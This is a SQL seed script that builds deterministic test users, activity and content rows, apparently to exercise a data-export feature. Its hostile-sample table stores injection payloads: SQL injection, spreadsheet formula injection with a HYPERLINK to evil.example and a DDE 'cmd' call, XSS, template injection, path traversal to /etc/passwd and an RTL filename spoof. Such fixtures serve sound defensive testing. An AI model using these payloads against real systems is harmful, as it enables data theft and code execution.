-- About 300 users and 310,000 records, the same on every run: no random(), no now().
-- `records` counts as an export does: the profile, the activity and the content.

CREATE TEMPORARY TABLE sample_users (
    place   int GENERATED ALWAYS AS IDENTITY,
    id      uuid NOT NULL,
    email   text NOT NULL,
    name    text NOT NULL,
    records int NOT NULL
);

-- The well-known ones; devstack/sample.py names them too.
INSERT INTO sample_users (id, email, name, records) VALUES
    ('ada00000-0000-4000-8000-000000000000', 'ada@example.com', 'Ada Lovelace', 400),
    ('00000999-0000-4000-8000-000000000000', 'grace@example.com', 'Grace Hopper', 999),
    ('00001000-0000-4000-8000-000000000000', 'edsger@example.com', 'Edsger W. Dijkstra', 1000),
    ('00050000-0000-4000-8000-000000000000', 'barbara@example.com', 'Barbara Liskov', 50000),
    ('00100000-0000-4000-8000-000000000000', 'donald@example.com', 'Donald Knuth', 100000),
    ('00100001-0000-4000-8000-000000000000', 'frances@example.com', 'Frances Allen', 100001),
    ('bad00000-0000-4000-8000-000000000000', 'mallory@example.com', 'Mallory O''Neill, "Jr."', 1);

CREATE TEMPORARY TABLE sample_hostile (place int GENERATED ALWAYS AS IDENTITY, shape text, sample text);

INSERT INTO sample_hostile (shape, sample) VALUES
    ('comma', 'Lovelace, Ada, Countess'),
    ('quote', 'Robert "Bobby" Tables'),
    ('only-quotes', '""'),
    ('sql', 'Robert''); DROP TABLE users;--'),
    ('crlf', E'first line\r\nsecond line\r\n'),
    ('lf', E'first line\nsecond line'),
    ('cr', E'\r=1+1'),
    ('tab', E'\t=1+1'),
    ('equals', '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'),
    ('plus', '+1 555 0100'),
    ('minus', '-2+3+cmd|'' /C calc''!A0'),
    ('at', '@SUM(1+1)'),
    ('apostrophe', '''=1+1'),
    ('backslash', 'C:\temp\new "folder"\'),
    ('emoji', E'\U0001F469\U0001F3FD\u200D\U0001F680 Sally'),
    ('rtl', E'\u0645\u0631\u064A\u0645 \u202Egnp.exe'),
    ('combining', E'Zoe\u0308 \u2028 Z\u0351a\u036Cl\u0352g\u0344o'),
    ('byte-order-mark', E'\uFEFFBOM first'),
    ('control', E'bell \u0007, escape \u001B[31m, delete \u007F'),
    ('spaces', '  leading and trailing  '),
    ('html', '<img src=x onerror="alert(1)">'),
    ('template', '{{ 7 * 7 }} ${HOME} %s %(name)s'),
    ('null-word', 'NULL'),
    ('empty', ''),
    ('long', left(repeat('Wolfeschlegelsteinhausenbergerdorff-', 9), 300)),
    ('path', '../../etc/passwd');

INSERT INTO sample_users (id, email, name, records)
SELECT md5('hostile ' || shape)::uuid, 'hostile-' || shape || '@example.com', sample, 20 + place
FROM sample_hostile
ORDER BY place;

-- A stored address that an unwary mailer delivers to two people.
INSERT INTO sample_users (id, email, name, records) VALUES
    (md5('hostile two-addresses')::uuid, 'eve@example.com, trudy@example.com', 'Eve and Trudy', 20);

INSERT INTO sample_users (id, email, name, records)
SELECT
    md5('user ' || n)::uuid,
    first_mail || '.' || last_mail || '@example.com',
    first_name || ' ' || last_name,
    20 + n * 7919 % 381
FROM (VALUES
    (0, 'Alan', 'alan'), (1, 'Zoë', 'zoe'), (2, 'Mei', 'mei'), (3, 'José', 'jose'), (4, 'Priya', 'priya'),
    (5, 'Olga', 'olga'), (6, 'Kwame', 'kwame'), (7, 'Søren', 'soren'), (8, 'Fatima', 'fatima'), (9, 'Łukasz', 'lukasz'),
    (10, 'Aoife', 'aoife'), (11, 'Hiroshi', 'hiroshi'), (12, 'Chloé', 'chloe'), (13, 'Diego', 'diego'),
    (14, 'Nadia', 'nadia'), (15, 'Tomáš', 'tomas'), (16, 'Leila', 'leila'), (17, 'Björn', 'bjorn')
) AS first_names (first_place, first_name, first_mail)
CROSS JOIN (VALUES
    (0, 'García', 'garcia'), (1, 'Nguyễn', 'nguyen'), (2, 'Müller', 'mueller'), (3, 'Okafor', 'okafor'),
    (4, 'Smith', 'smith'), (5, 'Tanaka', 'tanaka'), (6, 'O''Brien', 'obrien'), (7, 'Kowalska', 'kowalska'),
    (8, 'Haddad', 'haddad'), (9, 'Silva', 'silva'), (10, 'Ivanova', 'ivanova'), (11, 'Jensen', 'jensen'),
    (12, 'van der Berg', 'vanderberg'), (13, 'Rossi', 'rossi'), (14, 'Patel', 'patel')
) AS last_names (last_place, last_name, last_mail)
CROSS JOIN LATERAL (SELECT first_place * 15 + last_place AS n) AS numbered
ORDER BY n;

INSERT INTO public.users (id, email, name, password_hash, created_at, updated_at, is_active, is_admin)
SELECT
    id,
    email,
    name,
    '$argon2id$v=19$m=65536,t=3,p=4$canary-never-exported-' || md5(email),
    timestamptz '2023-03-01 08:15:30Z' + place * interval '17:23:45.678901',
    timestamptz '2025-09-01 00:00:00Z' + place * interval '01:02:03',
    place % 17 <> 0,
    place % 100 = 1
FROM sample_users
ORDER BY place;

-- One check of all rows at the end, not a query for each: it halves the time.
ALTER TABLE public.activity DROP CONSTRAINT activity_user_id_fkey;
ALTER TABLE public.content DROP CONSTRAINT content_user_id_fkey;

-- Two events share each instant, as they do in life: only the id tells them apart. Intervals are in hours, because the
-- length of a day depends on the session's time zone. Each user's rows lie together, which keeps the index cheap.
INSERT INTO public.activity (user_id, kind, ip, detail, occurred_at)
SELECT
    id,
    (ARRAY['login', 'page_view', 'search', 'page_view', 'purchase', 'logout'])[n % 6 + 1],
    CASE WHEN n % 5 = 0 THEN inet '2001:db8::' + n ELSE inet '203.0.113.0' + n % 256 END,
    CASE n % 6
        WHEN 0 THEN jsonb_build_object('method', 'password', 'ok', n % 4 <> 0)
        WHEN 2 THEN jsonb_build_object('query', 'engine, "analytical" ' || n % 50, 'hits', n % 31)
        WHEN 4 THEN jsonb_build_object('order', n, 'total', n % 9973 * 0.01, 'coupon', NULL)
        WHEN 5 THEN NULL
        ELSE jsonb_build_object('path', '/articles/' || n % 400, 'milliseconds', n % 700)
    END,
    timestamptz '2023-12-01 09:00:00Z' + n / 2 * (interval '15600 hours' * 2 / records)
FROM sample_users
CROSS JOIN LATERAL generate_series(1, records - 1 - (records - 1) / 5) AS n
ORDER BY id, n;

INSERT INTO public.content (user_id, title, body, created_at)
SELECT
    id,
    (ARRAY['Notes on the engine', 'Packing list', 'Letter to the editor', 'Review: "On Computable Numbers"'])[n % 4 + 1]
        || ', part ' || n,
    CASE n % 4
        WHEN 0 THEN 'The engine weaves algebraic patterns, just as the loom weaves flowers and leaves.'
        WHEN 1 THEN E'lamp\nnotebook, ruled\n2 pencils\n'
        WHEN 2 THEN E'Dear editor,\r\n\r\nyou wrote "it can''t be done". It was done ' || n || E' times.\r\n\r\nYours'
    END,
    timestamptz '2024-01-01 18:30:00Z' + n / 2 * (interval '14400 hours' * 10 / records)
FROM sample_users
CROSS JOIN LATERAL generate_series(1, (records - 1) / 5) AS n
ORDER BY id, n;

-- Mallory's records hold every hostile text in every column that takes it.
INSERT INTO public.activity (user_id, kind, ip, detail, occurred_at)
SELECT
    id,
    sample,
    (ARRAY['::1', '2001:db8::dead:beef', '::ffff:192.0.2.1', 'fe80::/10', '10.0.0.0/8', NULL]::inet[])[hostile.place % 6 + 1],
    jsonb_build_object(sample, jsonb_build_array(sample, NULL, jsonb_build_object('nested', to_json(sample)::text))),
    timestamptz '2024-02-29 23:59:59.999999Z'
FROM sample_hostile AS hostile
JOIN sample_users ON email = 'mallory@example.com'
ORDER BY hostile.place;

INSERT INTO public.activity (user_id, kind, ip, detail, occurred_at)
SELECT id, 'json', NULL, detail, timestamptz '2024-02-29 12:00:00Z'
FROM sample_users
CROSS JOIN (VALUES
    (1, NULL::jsonb), (2, 'null'), (3, '""'), (4, '"=1+1"'), (5, '[]'), (6, '{}'), (7, 'true'), (8, '0.100'),
    (9, '123456789012345678901234567890'), (10, '{"escaped": "\"quoted\", C:\\temp\\new, tab\t"}')
) AS details (detail_place, detail)
WHERE email = 'mallory@example.com'
ORDER BY detail_place;

INSERT INTO public.content (user_id, title, body, created_at)
SELECT id, title, body, timestamptz '2024-02-29 12:00:00Z'
FROM sample_users
CROSS JOIN (
    SELECT hostile.place, sample, sample FROM sample_hostile AS hostile
    UNION ALL VALUES (1001, 'no body', NULL), (1002, 'empty body', ''), (1003, '', NULL)
) AS texts (text_place, title, body)
WHERE email = 'mallory@example.com'
ORDER BY text_place;

ALTER TABLE public.activity ADD FOREIGN KEY (user_id) REFERENCES public.users (id) ON DELETE CASCADE;
ALTER TABLE public.content ADD FOREIGN KEY (user_id) REFERENCES public.users (id) ON DELETE CASCADE;

DROP TABLE sample_users, sample_hostile;

ANALYZE public.users, public.activity, public.content;
